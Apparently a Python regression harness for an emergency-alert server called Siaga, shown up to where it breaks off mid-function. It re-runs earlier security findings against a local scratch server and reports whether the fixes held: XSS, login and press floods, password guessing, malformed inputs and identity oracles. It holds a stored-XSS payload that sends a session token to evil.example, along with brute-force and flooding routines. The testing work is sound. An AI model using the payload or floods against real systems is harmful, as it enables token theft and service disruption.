"""The attacks of issue 14 ("Hardened") rerun against a real server: ``python -m benchmarks.attack``.

Per database (``BENCH_DATABASES``, default ``sqlite,postgres``) a scratch database is migrated and seeded with
Bandung (``benchmarks.run._scratch``), and a real ``siaga serve`` is attacked over HTTP and WebSocket as the
original black-box run did: hostile text in presses and profiles, streams outliving their session, a hostile
kecamatan name, a resident flooding presses, concurrent password guesses, weak passwords, refused reads, inputs that
answered 500, identity oracles, the production surface and a login flood, and emergency contacts used to send SMS.
Each finding prints what happened now beside the figure the issue gave, and whether it held. Residents register
through the API with the code their phone gets (the development SMS outbox); the harness touches the database only
to make time pass (a session's expiry, a code's cooldown) and to look up what was stored.

``BENCH_ITEMS=3,10`` runs only those items. ``BENCH_QUICK=1`` shrinks the floods to seconds (the smoke test,
``tests/e2e/test_attack_smoke.py``). Results go to ``benchmarks/results/attack.json``; the exit status is 1 if any
item did not hold. The latency figures are only as good as the machine is quiet: each says its load."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import random
import sys
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import asdict, dataclass, field
from datetime import timedelta
from functools import partial
from pathlib import Path
from typing import Any, TypeVar

import httpx
import websockets
from sqlalchemy import func, select, update

from benchmarks import population, server
from benchmarks.httpload import Generator, StepResult, Workload, wait_for_quiet
from benchmarks.loginflood import _presses, _server_problems
from benchmarks.run import _scratch
from siaga.accounts.models import AuthSession, OneTimeCode
from siaga.alerts.models import Alert, AlertPress
from siaga.audit.models import AuditRecord
from siaga.db import create_engine, utcnow
from siaga.demo.seed import DEMO_PASSWORD
from siaga.notify.models import OutboundMessage

ROOT = Path(__file__).resolve().parents[1]
API = "/api/v1"
COBLONG = (-6.8915, 107.6107)
CENTRE = "198.51.100.10"  # the command centre's address
HOSTILE_NAME = '<img src=x onerror="fetch(`//evil.example/?t=`+localStorage.token)">'
STRONG = "Kuda-Lumping-Menari-2026!"  # a staff password zxcvbn accepts
T = TypeVar("T")


@dataclass
class Scale:
    """How hard each flood pushes (``BENCH_QUICK=1``: seconds, for the smoke test)."""

    flood_presses: int
    flood_seconds: float
    bystander_rate: float
    guesses: int
    timing_samples: int
    denied_reads: int
    login_flood_rate: float
    login_flood_seconds: float
    sos_rate: float
    quiet: bool = True  # wait for the machine to fall quiet before a measured step (not in the smoke test)

    @classmethod
    def from_env(cls) -> Scale:
        quick = os.environ.get("BENCH_QUICK", "") not in ("", "0")
        return cls(
            quiet=not quick,
            flood_presses=int(os.environ.get("BENCH_FLOOD_PRESSES", 40 if quick else 1000)),
            flood_seconds=float(os.environ.get("BENCH_FLOOD_S", 1.0 if quick else 60.0)),  # the attack's minute
            bystander_rate=float(os.environ.get("BENCH_BYSTANDER_RATE", 10 if quick else 20)),
            guesses=60,
            timing_samples=2 if quick else 10,
            denied_reads=int(os.environ.get("BENCH_DENIED", 30 if quick else 240)),
            login_flood_rate=float(os.environ.get("BENCH_FLOOD_RATE", 50 if quick else 200)),
            login_flood_seconds=float(os.environ.get("BENCH_STEP_S", 1.0 if quick else 20.0)),
            sos_rate=float(os.environ.get("BENCH_SOS_RATE", 10 if quick else 20)),
        )


@dataclass
class Finding:
    item: int
    title: str
    before: str
    after: str
    held: bool
    figures: dict[str, Any] = field(default_factory=dict)


def say(message: str) -> None:
    print(message, flush=True)


async def eventually(check: Callable[[], Awaitable[T | None]], *, within: float = 30.0, what: str = "") -> T:
    deadline = time.monotonic() + within
    while True:
        found = await check()
        if found:
            return found
        if time.monotonic() > deadline:
            raise TimeoutError(f"waited {within} s for {what}")
        await asyncio.sleep(0.1)


class Target:
    """A running Siaga, seen as its users and an attacker see it: HTTP, WebSockets and the phones' SMS inbox."""

    def __init__(self, srv: server.Server) -> None:
        self.srv = srv
        self.http = httpx.AsyncClient(base_url=srv.url, timeout=60)
        self.engine = create_engine(srv.database.url)
        self.admin = ""
        self.agencies: dict[str, int] = {}
        self._seeded: list[str] = []
        self._phones = iter(range(random.randrange(10_000_000), 100_000_000))

    async def close(self) -> None:
        await self.http.aclose()
        await self.engine.dispose()

    @property
    def sms_file(self) -> Path:
        folder = self.srv.database.folder
        return folder / "dev-sms.jsonl" if self.srv.database.kind == "sqlite" else folder / "var" / "dev-sms.jsonl"

    def sms(self, to: str) -> list[str]:
        if not self.sms_file.exists():
            return []
        rows = [json.loads(line) for line in self.sms_file.read_text(encoding="utf-8").splitlines() if line]
        return [r["body"] for r in rows if r["to"] == to]

    async def scalar(self, query: Any) -> Any:
        async with self.engine.connect() as connection:
            return await connection.scalar(query)

    async def write(self, statement: Any) -> None:
        async with self.engine.begin() as connection:
            await connection.execute(statement)

    async def backdate_codes(self, phone: str, by: timedelta) -> None:
        """Time passes for ``phone``'s one-time codes, as if asked for ``by`` earlier."""
        async with self.engine.begin() as connection:
            rows = (
                await connection.execute(
                    select(OneTimeCode.id, OneTimeCode.created_at).where(OneTimeCode.phone == phone)
                )
            ).all()
            for code_id, created_at in rows:
                await connection.execute(
                    update(OneTimeCode).where(OneTimeCode.id == code_id).values(created_at=created_at - by)
                )

    # People ---------------------------------------------------------------------------------------------------

    async def login(self, username: str, password: str, *, ip: str = CENTRE) -> httpx.Response:
        """A staff login from ``ip`` (the server trusts X-Forwarded-For from loopback): staff log in from the
        command centre's address, and the floods come from this machine's own, as an attacker's would."""
        headers = {"X-Forwarded-For": ip}
        return await self.http.post(
            f"{API}/auth/login", json={"username": username, "password": password}, headers=headers
        )

    async def start(self, scale: Scale) -> None:
        """Log the administrator in, and write the residents whose presses are measured (one press each: a
        resident's press while their alert is active joins it) straight into the database, as the other benchmarks
        do: registering thousands through the API is not what is measured."""
        count = int(scale.bystander_rate * scale.flood_seconds + scale.sos_rate * scale.login_flood_seconds) * 2 + 10
        self._seeded = await population.seed_residents(self.srv.database, count)
        answer = await self.login("admin", DEMO_PASSWORD)
        answer.raise_for_status()
        self.admin = answer.json()["access_token"]
        self.agencies = {a["code"]: a["id"] for a in (await self.get(self.admin, "/agencies")).json()}

    def seeded(self, count: int) -> list[str]:
        taken, self._seeded = self._seeded[:count], self._seeded[count:]
        return taken

    async def get(self, token: str, path: str, **params: Any) -> httpx.Response:
        return await self.http.get(f"{API}{path}", params=params, headers=bearer(token))

    async def post(self, token: str, path: str, body: Any = None, **kwargs: Any) -> httpx.Response:
        return await self.http.post(
            f"{API}{path}", json=body if body is not None else {}, headers=bearer(token), **kwargs
        )

    async def staff(self, role: str, agency: str = "BDG-CC") -> tuple[str, int, str]:
        """A new staff member made by the administrator, logged in: (token, id, username)."""
        username = f"serang.{role}.{uuid.uuid4().hex[:6]}"
        body = {
            "username": username,
            "name": f"Uji {role}",
            "role": role,
            "agency_id": self.agencies[agency],
            "password": STRONG,
        }
        made = await self.post(self.admin, "/staff", body)
        made.raise_for_status()
        answer = await self.login(username, STRONG)
        answer.raise_for_status()
        return answer.json()["access_token"], int(made.json()["id"]), username

    async def resident(self, name: str = "Warga Uji", *, ip: str | None = None) -> tuple[str, str, str]:
        """A resident registered through the API with the code their phone got: (token, id, phone)."""
        phone = f"0857{next(self._phones):08d}"
        headers = {"X-Forwarded-For": ip} if ip else {}
        asked = await self.http.post(f"{API}/residents/code", json={"phone": phone}, headers=headers)
        asked.raise_for_status()
        e164 = asked.json()["phone"]
        code = (await eventually(lambda: _async(self.sms(e164)), what=f"the code SMS to {e164}"))[-1]
        code = code.split(": ", 1)[1][:6]
        verified = await self.http.post(f"{API}/residents/verify", json={"phone": phone, "code": code}, headers=headers)
        verified.raise_for_status()
        token = verified.json()["access_token"]
        (await self.http.patch(f"{API}/residents/me", json={"name": name}, headers=bearer(token))).raise_for_status()
        return token, verified.json()["resident_id"], e164

    async def press(self, token: str, *, raw: str | None = None, **fields: Any) -> httpx.Response:
        body = {
            "id": str(uuid.uuid4()),
            "category": "kriminalitas",
            "location": {"lat": COBLONG[0], "lon": COBLONG[1], "accuracy_m": 15.0},
        }
        body.update(fields)
        content = raw if raw is not None else json.dumps(body)  # ensure_ascii: a lone surrogate as its escape
        headers = {**bearer(token), "Content-Type": "application/json"}
        return await self.http.post(f"{API}/alerts", content=content, headers=headers)


async def quiet(scale: Scale) -> None:
    if scale.quiet:
        await asyncio.to_thread(wait_for_quiet)


async def _async(value: T) -> T:
    return value


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def ws_url(srv: server.Server, stream: str, token: str) -> str:
    return f"ws://127.0.0.1:{srv.port}{API}/stream/{stream}?token={token}"


# 0. Presses that were never delivered -----------------------------------------------------------------------------


async def hostile_text(t: Target) -> Finding:
    token, _, _ = await t.resident("Warga \x00Nul")
    answers: dict[str, int] = {}
    stored: dict[str, str | None] = {}
    for label, text in (("nul", "x\u0000y"), ("lone_surrogate", "a\ud800b")):
        press_id = str(uuid.uuid4())
        body: dict[str, Any] = {"id": press_id, "category": "kriminalitas", "description": text}
        body["location"] = {"lat": COBLONG[0], "lon": COBLONG[1], "accuracy_m": 15.0}
        answer = await t.press(token, raw=json.dumps(body))
        answers[label] = answer.status_code
        found = await t.scalar(select(Alert.description).where(Alert.id == uuid.UUID(press_id)))
        joined = await t.scalar(select(AlertPress.description).where(AlertPress.id == uuid.UUID(press_id)))
        stored[label] = found if found is not None else joined  # the second press joins the first's alert
    lat_true = await t.press(token, location={"lat": True, "lon": COBLONG[1]})
    # NUL elsewhere answered 500 on PostgreSQL: the profile, a login name, a search.
    elsewhere = {
        "profile": (
            await t.http.patch(f"{API}/residents/me", json={"name": "A\x00B"}, headers=bearer(token))
        ).status_code,
        "login": (await t.login("adm\x00in", "x" * 12)).status_code,
        "search": (await t.get(t.admin, "/residents", q="\x00")).status_code,
    }
    held = (
        set(answers.values()) <= {200, 201}
        and all(s is not None for s in stored.values())
        and lat_true.status_code == 422
        and all(code < 500 for code in elsewhere.values())
    )
    after = (
        f"NUL press {answers['nul']} (stored {stored['nul']!r}), lone surrogate {answers['lone_surrogate']} "
        f"(stored {stored['lone_surrogate']!r}); lat=true {lat_true.status_code}; NUL in profile/login/search "
        f"{elsewhere['profile']}/{elsewhere['login']}/{elsewhere['search']}"
    )
    return Finding(
        0,
        "presses never delivered",
        "NUL press 500 on PostgreSQL (never stored), lone surrogate 422 (dropped); lat=true stored at (1, 1)",
        after,
        held,
        {"answers": answers, "stored": stored, "lat_true": lat_true.status_code, "nul_elsewhere": elsewhere},
    )


# 1. Streams outliving their session -------------------------------------------------------------------------------


async def _closed_after(t: Target, stream: str, token: str, end: Callable[[], Awaitable[float]]) -> dict[str, Any]:
    """Open ``stream``, read its first message, end its session with ``end`` (which returns the moment the session
    ended, time.monotonic()), and say how the stream closed and how long after."""
    async with websockets.connect(ws_url(t.srv, stream, token), open_timeout=30) as connection:
        await asyncio.wait_for(connection.recv(), timeout=30)
        ended_at = await end()
        last: list[str] = []
        try:
            while True:
                raw = await asyncio.wait_for(connection.recv(), timeout=10)
                last.append(str(raw)[:80])
        except websockets.exceptions.ConnectionClosed as closed:
            code = closed.rcvd.code if closed.rcvd is not None else None
        except TimeoutError:
            code = None
        return {"close_code": code, "closed_after_ms": round((time.monotonic() - ended_at) * 1000, 1)}


async def streams(t: Target) -> Finding:
    results: dict[str, dict[str, Any]] = {}

    operator, _, _ = await t.staff("operator")

    async def logout_operator() -> float:
        (await t.post(operator, "/auth/logout")).raise_for_status()
        return time.monotonic()

    results["console_logout"] = await _closed_after(t, "console", operator, logout_operator)

    resident, _, _ = await t.resident()

    async def logout_resident() -> float:
        (await t.post(resident, "/auth/logout")).raise_for_status()
        return time.monotonic()

    results["resident_logout"] = await _closed_after(t, "resident", resident, logout_resident)

    deactivated, staff_id, _ = await t.staff("operator")

    async def deactivate() -> float:
        (await t.post(t.admin, f"/staff/{staff_id}/deactivate")).raise_for_status()
        return time.monotonic()

    results["console_deactivated"] = await _closed_after(t, "console", deactivated, deactivate)

    expiring, expiring_id, _ = await t.staff("operator")
    expires_in = 2.0
    await t.write(
        update(AuthSession)
        .where(AuthSession.staff_id == expiring_id)
        .values(expires_at=utcnow() + timedelta(seconds=expires_in))
    )
    expires_at = time.monotonic() + expires_in

    async def expiry() -> float:
        return expires_at

    results["console_expired"] = await _closed_after(t, "console", expiring, expiry)
    # Held: each stream was closed by the server with 4401 (not left open); how soon is the figure beside it.
    held = all(r["close_code"] == 4401 for r in results.values())
    slowest = max(r["closed_after_ms"] for r in results.values())
    after = ", ".join(f"{k} closed {r['close_code']} after {r['closed_after_ms']:.0f} ms" for k, r in results.items())
    after += f" ({'all' if slowest <= 1000 else 'NOT all'} within a second)"
    return Finding(
        1,
        "open streams outlive their session",
        "console and resident streams stayed open and kept receiving alerts after logout and expiry",
        after,
        held,
        results,
    )


# 2. Stored XSS on the console -------------------------------------------------------------------------------------


async def hostile_kecamatan(t: Target) -> Finding:
    code = f"99.{uuid.uuid4().hex[:6]}"
    square = [[[110.0, -7.0], [110.01, -7.0], [110.01, -7.01], [110.0, -7.01], [110.0, -7.0]]]
    feature = {
        "type": "Feature",
        "properties": {"kode": code, "nama": HOSTILE_NAME},
        "geometry": {"type": "Polygon", "coordinates": square},
    }
    imported = await t.post(t.admin, "/jurisdictions/import", {"type": "FeatureCollection", "features": [feature]})
    geojson = await t.get(t.admin, "/jurisdictions.geojson")
    names = [f["properties"].get("name") for f in geojson.json().get("features", [])]
    page = await t.http.get("/console")
    csp = page.headers.get("content-security-policy", "")
    script_src = next((d for d in csp.split(";") if d.strip().startswith("script-src")), "")
    staff_app = await t.http.post(
        f"{API}/auth/login",
        json={"username": "admin", "password": DEMO_PASSWORD},
        headers={"X-Siaga-Session": "console"},
    )
    cookie = staff_app.headers.get("set-cookie", "")
    checks = {
        "import": imported.status_code,
        "name_back_as_json_text": HOSTILE_NAME in names,
        "json_content_type": geojson.headers.get("content-type", "").startswith("application/"),
        "nosniff": geojson.headers.get("x-content-type-options") == "nosniff",
        "no_inline_script": "unsafe-inline" not in script_src and bool(script_src),
        "object_src_none": "object-src 'none'" in csp,
        "base_uri_none": "base-uri 'none'" in csp,
        "frame_ancestors_none": "frame-ancestors 'none'" in csp,
        "token_not_in_page_reach": staff_app.json().get("access_token") == "" and "httponly" in cookie.lower(),
    }
    held = imported.status_code == 200 and all(v for k, v in checks.items() if k != "import")
    return Finding(
        2,
        "stored XSS on the console",
        "a kecamatan name ran as HTML in the map tooltips and could read the token from localStorage",
        f"hostile name imported ({imported.status_code}) and served only as JSON text with nosniff; console CSP "
        f"'{script_src.strip()}', object-src/base-uri/frame-ancestors 'none'; the console's token is an HttpOnly "
        f"cookie, not in the answer (the tooltip is text: tests/browser/test_hostile_text.py)",
        held,
        checks,
    )


# 3. One resident flooding the command centre ----------------------------------------------------------------------


async def _settled_alarms(t: Target, alert_id: str, contacts: int) -> dict[str, int] | None:
    async with t.engine.connect() as connection:
        rows = (
            await connection.execute(
                select(OutboundMessage.status, func.count())
                .where(OutboundMessage.alert_id == alert_id, OutboundMessage.purpose == "emergency_contact")
                .group_by(OutboundMessage.status)
            )
        ).all()
    statuses = {str(s): int(n) for s, n in rows}
    if sum(statuses.values()) < contacts or statuses.get("pending") or statuses.get("sending"):
        return None
    return statuses


async def _with_contacts(t: Target, token: str, count: int) -> list[str]:
    contacts = [
        {"name": f"Kontak {i}", "phone": f"0813{next(t._phones):08d}", "relation": "keluarga"} for i in range(count)
    ]
    answer = await t.http.patch(f"{API}/residents/me", json={"emergency_contacts": contacts}, headers=bearer(token))
    answer.raise_for_status()
    return [c["phone"] for c in answer.json()["emergency_contacts"]]


async def resident_flood(t: Target, scale: Scale) -> Finding:
    flooder, flooder_id, _ = await t.resident("Warga Banjir")
    phones = await _with_contacts(t, flooder, 5)
    tokens = t.seeded(int(scale.bystander_rate * scale.flood_seconds) * 2 + 5)
    generator, flood = Generator(t.srv.url), Generator(t.srv.url)
    tag = random.getrandbits(32)
    bystander = Workload("sos", f"{API}/alerts", 201, tuple(tokens), run_tag=tag)
    presses = Workload("sos", f"{API}/alerts", 201, (flooder,), run_tag=tag ^ 0xFFFF)
    try:
        await quiet(scale)
        alone = await asyncio.to_thread(
            generator.step, bystander, scale.bystander_rate, scale.flood_seconds, server_pid=t.srv.pid, timeout_s=30
        )
        await quiet(scale)
        rate = scale.flood_presses / scale.flood_seconds
        t0 = time.monotonic() + 1.0

        def both() -> tuple[StepResult, StepResult]:
            with ThreadPoolExecutor(2) as pool:
                during = pool.submit(
                    generator.step,
                    bystander,
                    scale.bystander_rate,
                    scale.flood_seconds,
                    server_pid=t.srv.pid,
                    timeout_s=30,
                    t0=t0,
                )
                flooded = pool.submit(flood.step, presses, rate, scale.flood_seconds, timeout_s=30, t0=t0)
                return during.result(), flooded.result()

        during, flooded = await asyncio.to_thread(both)
    finally:
        generator.close()
        flood.close()
    mine = Alert.resident_id == uuid.UUID(flooder_id)
    alerts = int(await t.scalar(select(func.count()).select_from(Alert).where(mine)) or 0)
    press_count = int(await t.scalar(select(func.max(Alert.press_count)).where(mine)) or 0)
    alert_id = str(await t.scalar(select(Alert.id).where(mine).limit(1)))
    alarms = await eventually(lambda: _settled_alarms(t, alert_id, len(phones)), what="the contacts' alarms")
    sms_to_contacts = sum(len([m for m in t.sms(p) if "mencantumkan" not in m]) for p in phones)
    operator, _, _ = await t.staff("operator")
    queue = (await t.get(operator, "/alerts", active="true", limit=500)).json()  # the operator's first page
    in_queue = len([a for a in queue if a["id"] == alert_id])
    theirs = (await t.get(operator, "/alerts", active="true", resident_id=flooder_id, limit=500)).json()
    flagged = (await t.get(operator, f"/alerts/{alert_id}")).json().get("press_count")
    alone_p, during_p = _presses(alone), _presses(during)
    statuses = flooded.statuses
    held = (
        alerts == 1
        and press_count == flooded.scheduled
        and set(statuses) <= {"200", "201"}
        and sms_to_contacts <= len(phones)
        and len(theirs) == 1
        and during_p["ok"] == during_p["scheduled"]
        and (_kept(alone_p, during_p) or not scale.quiet)
    )
    return Finding(
        3,
        "one resident floods the command centre",
        "1,000 presses: 1,000 alerts (475 of 500 in the queue), not flagged, 5,000 SMS to 5 contacts; a "
        "bystander's press p95 189 ms -> 1,400 ms",
        f"{flooded.scheduled} presses ({statuses}) -> {alerts} alert, press_count {press_count} (console shows "
        f"{flagged}), {len(theirs)} active card ({in_queue} of the {len(queue)} on the queue's first page); "
        f"{sms_to_contacts} alarm SMS to "
        f"{len(phones)} contacts ({alarms}); bystander p95 {alone_p['p95_ms']} ms alone -> {during_p['p95_ms']} ms "
        f"during ({during_p['ok']}/{during_p['scheduled']} stored){_conditions(alone_p, during_p)}",
        held,
        {
            "presses": flooded.scheduled,
            "answers": statuses,
            "alerts": alerts,
            "press_count": press_count,
            "their_active_cards": len(theirs),
            "their_cards_on_first_page": in_queue,
            "first_page": len(queue),
            "alarm_sms": sms_to_contacts,
            "alarms_by_status": alarms,
            "bystander_alone": alone_p,
            "bystander_during": during_p,
        },
    )


def _kept(alone: dict[str, Any], during: dict[str, Any]) -> bool:
    """Whether presses kept their latency under an attack: p95 at most twice, plus 50 ms, what it was alone. Judged
    in the full run only; the smoke test (tiny steps on a shared machine) proves what was stored, not how fast."""
    return bool(during["p95_ms"] <= 2 * alone["p95_ms"] + 50)


def _conditions(*steps: dict[str, Any]) -> str:
    """What the machine was like: a latency measured while the load generator could not keep its schedule, or on
    a machine busy with other work, says more about the machine than about Siaga."""
    load = Path("/proc/loadavg").read_text().split()[0] if Path("/proc/loadavg").exists() else "?"
    saturated = any(step["generator_saturated"] for step in steps)
    kept = "kept" if _kept(*steps) else "NOT kept"
    return f" [latency {kept}; load {load}{', generator saturated' if saturated else ''}]"


# 4. Password guessing -----------------------------------------------------------------------------------------------


async def guessing(t: Target, scale: Scale) -> Finding:
    _, _, username = await t.staff("operator")
    attacker, centre = "203.0.113.66", "198.51.100.11"
    answers = await asyncio.gather(*(t.login(username, f"tebakan-{i}", ip=attacker) for i in range(scale.guesses)))
    at_once = Counter(a.status_code for a in answers)
    busy = sum(1 for a in answers if a.status_code == 429 and a.json()["error"]["code"] == "auth.busy")
    one_by_one = Counter(
        [(await t.login(username, f"lagi-{i}", ip=attacker)).status_code for i in range(scale.guesses)]
    )
    checked = at_once[401] + one_by_one[401]
    centre_in = (await t.login(username, STRONG, ip=centre)).status_code
    # Unknown accounts and wrong passwords take the same time (each is a full argon2 check).
    timings: dict[str, list[float]] = {"unknown": [], "wrong_password": []}
    _, _, other = await t.staff("operator")
    for i in range(scale.timing_samples):
        for kind, name in (("unknown", f"tidak.ada.{i}"), ("wrong_password", other)):
            began = time.monotonic()
            await t.login(name, f"salah-{i}", ip=f"192.0.2.{10 + i}")
            timings[kind].append((time.monotonic() - began) * 1000)
    median = {k: round(sorted(v)[len(v) // 2], 1) for k, v in timings.items()}
    held = checked <= 10 and centre_in == 200
    return Finding(
        4,
        "password guessing beats the limit",
        "60 concurrent wrong passwords for one user: all 60 checked (limit 10)",
        f"{scale.guesses} at once: {dict(at_once)} ({busy} of the 429s 'busy'); then {scale.guesses} one by one: "
        f"{dict(one_by_one)}; {checked} reached argon2 in all; the centre at another address logged in: {centre_in}; "
        f"median answer unknown user {median['unknown']} ms vs wrong password {median['wrong_password']} ms",
        held,
        {
            "at_once": dict(at_once),
            "busy": busy,
            "one_by_one": dict(one_by_one),
            "checked": checked,
            "centre_login": centre_in,
            "median_ms": median,
        },
    )


# 5. Weak staff passwords --------------------------------------------------------------------------------------------


async def weak_passwords(t: Target) -> Finding:
    answers = {}
    for password in ("aaaaaaaaaa", "1234567890", "password12"):
        body = {
            "username": f"lemah.{uuid.uuid4().hex[:6]}",
            "name": "Sandi Lemah",
            "role": "operator",
            "agency_id": t.agencies["BDG-CC"],
            "password": password,
        }
        answers[password] = (await t.post(t.admin, "/staff", body)).status_code
    held = all(code == 422 for code in answers.values())
    return Finding(
        5,
        "weak staff passwords accepted",
        "aaaaaaaaaa, 1234567890, password12 accepted",
        f"answers {answers}",
        held,
        answers,
    )


# 7. Refused reads audited -------------------------------------------------------------------------------------------


async def denied_reads(t: Target, scale: Scale) -> Finding:
    owner, _, _ = await t.resident("Siti Pemilik")
    intruder, intruder_id, _ = await t.resident("Budi Penyusup")
    outsider, outsider_id, _ = await t.staff("operator", "POLSEK-SUKAJADI")
    alert = (await t.press(owner)).json()["id"]
    half = scale.denied_reads // 2
    statuses: Counter[int] = Counter()
    for i in range(half):
        statuses[(await t.get(intruder, f"/alerts/{alert}" if i % 2 else f"/alerts/{alert}/timeline")).status_code] += 1
    for i in range(scale.denied_reads - half):
        statuses[(await t.get(outsider, f"/alerts/{alert}" if i % 2 else f"/alerts/{alert}/trail")).status_code] += 1

    async def audited() -> tuple[list[dict[str, Any]], int]:
        records: list[dict[str, Any]] = []
        for actor in (intruder_id, f"staff:{outsider_id}"):
            answer = await t.get(t.admin, "/audit", outcome="denied", actor_id=actor, limit=1000)
            records += answer.json()
        return records, sum(r["detail"]["requests"] if r["action"] == "access.denied.more" else 1 for r in records)

    async def all_counted() -> bool:
        return (await audited())[1] >= scale.denied_reads

    with contextlib.suppress(TimeoutError):  # a refusal's record may be committed just after its answer
        await eventually(all_counted, within=10, what="every refusal counted")
    records, counted = await audited()
    held = counted == scale.denied_reads and len(records) < scale.denied_reads
    return Finding(
        7,
        "refused reads leave no trace",
        "about 240 refused cross-resident and cross-agency reads: no outcome=denied record",
        f"{scale.denied_reads} refused reads ({dict(statuses)}): {len(records)} denied records counting {counted}",
        held,
        {"refused": scale.denied_reads, "answers": dict(statuses), "records": len(records), "counted": counted},
    )


# 8. Inputs that answered 500 ----------------------------------------------------------------------------------------

BAD_INPUTS = [
    ("/reports/alerts", {"from": "0001-01-01"}),
    ("/reports/alerts", {"to": "9999-12-31"}),
    ("/reports/response-times", {"from": "9999-12-31", "to": "9999-12-31"}),
    ("/reports/kecamatan", {"from": "0001-01-01", "to": "0001-01-02"}),
    ("/reports/outcomes.csv", {"to": "9999-12-31"}),
    ("/audit", {"since": "0001-01-01T00:00:00+05:00"}),
    ("/audit", {"since": "9999-12-31T23:59:59-05:00"}),
    ("/audit", {"until": "2026-01-01T00:00:00+23:59"}),
    ("/audit", {"before_id": str(2**63)}),
    ("/audit", {"before_id": str(-(2**63) - 1)}),
    ("/alerts", {"before": "0001-01-01T00:00:00+01:00"}),
    ("/alerts", {"before": "9999-12-31T23:59:59-14:00"}),
    ("/alerts", {"limit": str(2**64)}),
    ("/residents", {"limit": str(-(2**63) - 1)}),
    ("/staff", {"offset": str(2**63)}),
]
BAD_PATHS = [f"/staff/{-(2**63) - 1}/activate", f"/staff/{2**63}/deactivate", f"/staff/{2**64}/activate"]


async def bad_inputs(t: Target) -> Finding:
    answers: list[tuple[str, int]] = []
    for path, params in BAD_INPUTS:
        answer = await t.get(t.admin, path, **params)
        answers.append((f"{path}?{'&'.join(f'{k}={v}' for k, v in params.items())}", answer.status_code))
    for path in BAD_PATHS:
        answers.append((path, (await t.post(t.admin, path)).status_code))
    square = [[[110.0, -7.0], [110.01, -7.0], [110.01, -7.01], [110.0, -7.01], [110.0, -7.0]]]
    feature = {
        "type": "Feature",
        "properties": {"kode": "99.NUL", "nama": "Kec\x00amatan"},
        "geometry": {"type": "Polygon", "coordinates": square},
    }
    imported = await t.post(t.admin, "/jurisdictions/import", {"type": "FeatureCollection", "features": [feature]})
    answers.append(("import kecamatan name with NUL", imported.status_code))
    errors = [a for a in answers if a[1] >= 500]
    held = not errors
    return Finding(
        8,
        "inputs that answered 500",
        "11 inputs answered 500 on SQLite, 17 on PostgreSQL",
        f"{len(answers)} inputs: {dict(Counter(code for _, code in answers))}; 5xx: {errors or 'none'}",
        held,
        {"answers": answers},
    )


# 9. Identity oracles ------------------------------------------------------------------------------------------------


async def oracles(t: Target) -> Finding:
    owner, _, _ = await t.resident("Siti")
    stranger, _, _ = await t.resident("Orang Asing")
    neighbour, _, _ = await t.resident("Tetangga")
    nik = f"327301120390{random.randint(1, 9999):04d}"
    me = f"{API}/residents/me"
    await t.http.patch(me, json={"nik": nik}, headers=bearer(stranger))
    claimed = await t.http.patch(me, json={"nik": nik}, headers=bearer(owner))
    fresh = await t.http.patch(
        me, json={"nik": f"327301130390{random.randint(1, 9999):04d}"}, headers=bearer(neighbour)
    )
    nik_same = claimed.status_code == fresh.status_code == 200 and set(claimed.json()) == set(fresh.json())
    both_press = [(await t.press(who)).status_code for who in (owner, stranger)]
    flagged = {r["id"] for r in (await t.get(t.admin, "/residents", nik_contested="true", limit=100)).json()}

    operator, _, _ = await t.staff("operator", "POLSEK-COBLONG")
    unit = await t.post(
        t.admin, "/units", {"agency_id": t.agencies["POLSEK-SUKAJADI"], "callsign": f"SKJ-{uuid.uuid4().hex[:4]}"}
    )
    alert = (await t.press((await t.resident())[0])).json()["id"]
    path = f"/alerts/{alert}/dispatch"

    def shape(answer: httpx.Response) -> tuple[int, str]:
        return answer.status_code, answer.json().get("error", {}).get("code", "")

    elsewhere = shape(await t.post(operator, path, {"unit_id": unit.json()["id"]}))
    missing = shape(await t.post(operator, path, {"unit_id": 2_000_000_000}))

    victim = f"0812{random.randrange(10**8):08d}"
    asked: Counter[tuple[int, str]] = Counter()
    for _ in range(12):
        answer = await t.http.post(
            f"{API}/residents/code", json={"phone": victim}, headers={"X-Forwarded-For": "203.0.113.66"}
        )
        asked[(answer.status_code, answer.json().get("error", {}).get("code", ""))] += 1
        if answer.status_code == 429 and answer.json()["error"]["code"] == "otp.number_limit":
            break
        await t.backdate_codes(answer.json().get("phone", ""), timedelta(seconds=40))  # past the resend cooldown
    owners_code = await t.http.post(
        f"{API}/residents/code", json={"phone": victim}, headers={"X-Forwarded-For": "198.51.100.77"}
    )
    checks = {
        "nik_answer_same_as_fresh": nik_same,
        "both_can_press": both_press,
        "nik_contested_flagged": len(flagged) >= 2,
        "dispatch_elsewhere_vs_missing": [elsewhere, missing],
        "stranger_code_requests": {f"{s} {c}".strip(): n for (s, c), n in asked.items()},
        "owner_still_gets_a_code": owners_code.status_code,
    }
    held = (
        nik_same
        and both_press == [201, 201]
        and len(flagged) >= 2
        and elsewhere == missing
        and owners_code.status_code == 202
    )
    return Finding(
        9,
        "identity oracles and takeovers",
        "someone else's NIK answered 'registered to another number'; dispatch 404 vs 422 by unit existence; a "
        "stranger used up a victim's code requests for an hour",
        f"NIK held by another: same answer as a fresh one ({claimed.status_code}), both press {both_press}, "
        f"{len(flagged)} flagged nik_contested; dispatch another agency's unit {elsewhere} = missing unit {missing}; "
        f"stranger's code requests {checks['stranger_code_requests']}, then the owner's {owners_code.status_code}",
        held,
        checks,
    )


# 10. Production surface and a login flood -------------------------------------------------------------------------


async def production_surface(t: Target, database: server.Database) -> dict[str, Any]:
    """A second server on the same database in production mode: what it serves that it should not."""
    production = server.start(
        database,
        name="server-production",
        SIAGA_DEV_MODE="0",
        SIAGA_SMS_ADAPTER="http",
        SIAGA_SMS_HTTP_URL="http://127.0.0.1:9/send",
    )
    try:
        async with httpx.AsyncClient(base_url=production.url, timeout=30) as http:
            paths = {p: (await http.get(p)).status_code for p in ("/openapi.json", "/docs", "/redoc")}
            page = await http.get("/console")
        cdn = [s for s in ("cdn.jsdelivr", "unpkg.com", "cdnjs") if s in page.text]
        try:
            refused_code: int | None = None
            async with websockets.connect(f"ws://127.0.0.1:{production.port}{API}/stream/console?token=salah") as ws:
                await asyncio.wait_for(ws.recv(), timeout=10)
        except websockets.exceptions.ConnectionClosed as closed:
            refused_code = closed.rcvd.code if closed.rcvd is not None else None
        except websockets.exceptions.InvalidStatus as refused:
            refused_code = refused.response.status_code
    finally:
        production.stop()
    dev_banner = "DEVELOPMENT MODE" in t.srv.log_path.read_text(errors="replace")
    prod_banner = "DEVELOPMENT MODE" in production.log_path.read_text(errors="replace")
    return {
